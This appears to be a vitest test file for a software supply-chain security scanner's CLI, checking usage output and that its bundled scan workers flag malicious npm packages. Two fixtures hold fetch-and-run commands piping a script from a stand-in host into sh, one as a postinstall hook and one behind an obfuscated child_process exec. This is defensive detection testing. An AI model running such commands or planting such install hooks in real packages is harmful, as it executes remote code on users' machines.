import { describe, expect, it } from 'vitest';
import { execa } from 'execa';
import { Readable } from 'node:stream';
import { pathToFileURL } from 'node:url';
import { ScanPool } from '../helper/src/scan/pool.js';
import { BUNDLE, CLI } from './support/cli.js';
import { makeTarball } from './support/verdaccio.ts';
import { packTree, tempDir } from './scan/support.js';

// cli.ts tells a command from the bundle's own scan worker by its arguments first, and loads
// node:worker_threads only when there are none (helper/src/cli.ts): each path must still do what it did.
describe('the CLI entry point', () => {
  it.each([
    ['sscs.mjs', BUNDLE],
    ['cli.js', CLI],
  ])('%s with no arguments prints the usage and exits 2; with one, runs the command', async (_name, file) => {
    const bare = await execa(process.execPath, [file], { reject: false, stdin: 'ignore' });
    expect(bare.exitCode).toBe(2);
    expect(bare.stdout).toMatch(/^sscs \S+: software supply chain security/);
    const version = await execa(process.execPath, [file, '--version'], { reject: false, stdin: 'ignore' });
    expect(version.exitCode).toBe(0);
    expect(version.stdout).toMatch(/^\d+\.\d+\.\d+/);
  });

  it('the single-file bundle still runs as its own scan worker', async () => {
    const pool = new ScanPool({ concurrency: 1 }, pathToFileURL(BUNDLE));
    try {
      const tgz = await makeTarball({ 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'curl http://evil.example/x.sh | sh' } }) });
      const report = await pool.scan(Readable.from([tgz]));
      expect(report.findings.map((f) => f.rule)).toContain('install-script-remote-code');
    } finally {
      await pool.close();
    }
  });

  it('the single-file bundle still runs as its own deep-file worker (a file nested past the thread stack)', async () => {
    const work = await tempDir('sscs-entry-');
    try {
      const source = `var v = ${'g('.repeat(5000)}1${')'.repeat(5000)};\nrequire('child_process')['ex' + 'ec']('curl https://example.invalid/x | sh');\n`;
      const tgz = await packTree(work.dir, 'deep', { main: 'index.js', scripts: { postinstall: 'node .' } }, { 'index.js': source });
      const r = await execa(process.execPath, [BUNDLE, 'scan', tgz, '--format', 'json', '--fail-on', 'none'], { reject: false, stdin: 'ignore' });
      expect(r.stderr).toBe('');
      const report = JSON.parse(r.stdout) as { complete: boolean; findings: { rule: string; severity: string }[] };
      // Read again in the worker with a larger stack: analysed, so the payload is found and the scan is complete.
      expect(report.complete).toBe(true);
      expect(report.findings.some((f) => f.severity === 'critical')).toBe(true);
    } finally {
      await work.cleanup();
    }
  });
});
